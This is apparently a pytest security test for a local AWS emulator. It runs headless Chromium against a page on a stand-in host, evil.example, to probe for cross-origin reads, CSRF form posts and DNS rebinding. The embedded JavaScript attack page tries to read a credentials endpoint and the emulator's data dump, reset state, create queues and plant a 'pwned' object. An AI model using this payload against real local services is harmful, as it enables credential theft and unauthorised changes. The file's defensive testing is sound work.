"""Pages in a real browser: what they can read and change of the emulator."""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import tempfile
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from moto.moto_api._internal import moto_api_backend

from orderops.local.emulator.server import Emulator
from support.guarded_emulator import REGION, Served, guarded
from support.strict_clients import served

CHROMIUM = next(
    (path for name in ("chromium", "chromium-browser", "google-chrome") if (path := shutil.which(name))), ""
)
pytestmark = [
    pytest.mark.skipif(not CHROMIUM, reason="chromium is not installed"),
    pytest.mark.slow,
]
# Tries every way in which a page can send a request, and reports what it could read.
ATTACK = """<!doctype html><body><script>
const targets = TARGETS, read = {};
const trial = async (name, send) => {
  try { const answer = await send(); read[name] = answer.type + ":" + await answer.text(); }
  catch (error) { read[name] = "error"; }
};
const submit = (url, fields, type) => new Promise(done => {
  const frame = document.createElement("iframe"), form = document.createElement("form");
  frame.name = form.target = "f" + Math.random(); form.action = url; form.method = "post"; form.enctype = type;
  for (const [name, value] of Object.entries(fields)) {
    const input = document.createElement("input"); input.name = name; input.value = value; form.append(input);
  }
  let loads = 0; frame.onload = () => { if (loads++) done(); };
  document.body.append(frame, form); form.submit(); setTimeout(done, 3000);
});
(async () => {
  for (const [name, url, bucket] of targets) {
    for (const path of ["/", "/orderops/credentials", "/orderops/status", "/moto-api/data.json"]) {
      await trial(name + " GET " + path, () => fetch(url + path));
      await trial(name + " no-cors GET " + path, () => fetch(url + path, {mode: "no-cors"}));
    }
    await trial(name + " POST", () => fetch(url + "/moto-api/reset", {method: "POST", mode: "no-cors"}));
    await trial(name + " target", () => fetch(url, {method: "POST", body: "{}",
      headers: {"X-Amz-Target": "AmazonSQS.CreateQueue", "Content-Type": "application/x-amz-json-1.0"}}));
    await submit(url + "/", {Action: "CreateQueue", QueueName: bucket}, "application/x-www-form-urlencoded");
    await submit(url + "/" + bucket, {key: "pwned", file: "x"}, "multipart/form-data");
  }
  await fetch("/result", {method: "POST", body: JSON.stringify(read)});
})();
</script>"""


@dataclass
class Attacker:
    """Web server of a page; `result` is what the page reports."""

    port: int = 0
    page: str = ""
    result: dict[str, str] = field(default_factory=dict)
    done: threading.Event = field(default_factory=threading.Event)


@contextmanager
def attacker() -> Iterator[Attacker]:
    it = Attacker()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self._answer(it.page.encode())

        def do_POST(self) -> None:
            it.result.update(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self._answer(b"")
            it.done.set()

        def _answer(self, body: bytes) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    it.port = server.server_port
    threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
    yield it
    server.shutdown()
    server.server_close()


@contextmanager
def browser(*arguments: str) -> Iterator[subprocess.Popen[str]]:
    """Run chromium, in which evil.example is this machine."""
    with tempfile.TemporaryDirectory(prefix="orderops-browser-", ignore_cleanup_errors=True) as profile:
        program = subprocess.Popen(
            [
                CHROMIUM,
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                "--host-resolver-rules=MAP evil.example 127.0.0.1",
                f"--user-data-dir={Path(profile)}",
                *arguments,
            ],
            stdout=subprocess.PIPE,
            stderr=subprocess.DEVNULL,
            text=True,
            start_new_session=True,
        )
        try:
            yield program
        finally:
            # With its own children, which write into the profile.
            with suppress(ProcessLookupError):
                os.killpg(program.pid, signal.SIGKILL)
            program.wait()


@pytest.fixture
def server() -> Iterator[Served]:
    with guarded() as server:
        yield server
        moto_api_backend.reset()


def keys(server: Served, bucket: str) -> list[str]:
    response: dict[str, Any] = server.client("s3").list_objects_v2(Bucket=bucket)
    return [found["Key"] for found in response.get("Contents", ())]


def test_a_page_of_another_origin_reads_and_changes_nothing(server: Served) -> None:
    for bucket in ("closed", "open", "rebound"):
        server.client("s3").create_bucket(Bucket=bucket, CreateBucketConfiguration={"LocationConstraint": REGION})
    queues = server.client("sqs").list_queues().get("QueueUrls")
    # An emulator that admits everything is attacked too: there, the same page succeeds.
    with served(Emulator()) as client, attacker() as it:
        targets = [
            ("closed", server.url, "closed"),
            ("rebound", f"http://evil.example:{server.port}", "rebound"),
            ("open", client("s3").meta.endpoint_url, "open"),
        ]
        it.page = ATTACK.replace("TARGETS", json.dumps(targets))
        with browser("--remote-debugging-port=0", f"http://evil.example:{it.port}/"):
            assert it.done.wait(120)

    # An opaque response has neither status nor text for the page.
    assert {outcome for name, outcome in it.result.items() if not name.startswith("open")} == {"error", "opaque:"}
    assert len(it.result) == 30
    assert (keys(server, "closed"), keys(server, "rebound"), keys(server, "open")) == ([], [], ["pwned"])
    assert server.client("sqs").list_queues().get("QueueUrls") == queues


def test_a_page_whose_name_comes_to_mean_this_machine_reads_nothing(server: Served) -> None:
    def page_of(url: str) -> str:
        with browser("--dump-dom", url) as program:
            return program.communicate(timeout=120)[0]

    s3 = server.client("s3")
    # moto takes the first part of a host's name for a bucket.
    s3.create_bucket(Bucket="evil", CreateBucketConfiguration={"LocationConstraint": REGION})
    s3.put_object(Bucket="evil", Key="orders.txt", Body=b"one tea", ContentType="text/html", ACL="public-read")
    with served(Emulator()) as client:
        admits_everything = client("s3").meta.endpoint_url.replace("127.0.0.1", "evil.example")
        assert "one tea" in page_of(f"{admits_everything}/orders.txt")

    page = page_of(f"http://evil.example:{server.port}/orders.txt")

    assert "AccessDenied" in page
    assert "one tea" not in page
